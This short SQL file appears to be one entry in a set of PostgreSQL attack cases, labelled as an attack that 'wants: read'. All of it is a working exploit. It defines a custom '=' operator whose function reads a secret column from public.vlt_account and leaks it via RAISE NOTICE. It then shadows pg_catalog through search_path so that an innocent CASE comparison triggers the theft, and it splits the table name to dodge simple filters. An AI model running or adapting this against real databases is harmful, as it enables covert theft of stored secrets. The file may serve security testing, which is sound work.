-- Compares by a CASE statement of PL/pgSQL, which looks for an equality that is not in its text.
-- wants: read
-- attack:
CREATE TYPE office.odd AS (a int);
CREATE FUNCTION office.told(office.odd, office.odd) RETURNS boolean LANGUAGE plpgsql AS $$
  DECLARE found text;
  BEGIN
    EXECUTE 'SELECT secret FROM public.vlt_' || 'account LIMIT 1' INTO found;
    RAISE NOTICE '%', found;
    RETURN true;
  END $$;
CREATE OPERATOR office.= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
SET search_path = office, pg_catalog, public;
DO $$ DECLARE x office.odd := ROW(1); BEGIN
  CASE x WHEN x THEN RAISE NOTICE 'a'; ELSE RAISE NOTICE 'b'; END CASE;
END $$;
